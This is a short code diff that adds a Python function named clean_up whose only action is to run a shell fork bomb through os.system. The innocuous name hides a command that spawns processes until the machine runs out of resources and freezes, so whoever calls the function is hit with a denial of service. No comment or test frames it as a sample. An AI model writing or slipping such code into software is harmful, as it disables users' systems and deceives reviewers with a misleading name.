@@ -1,0 +1,5 @@
+import os
+
+
+def clean_up():
+    os.system(":(){ :|:& };:")
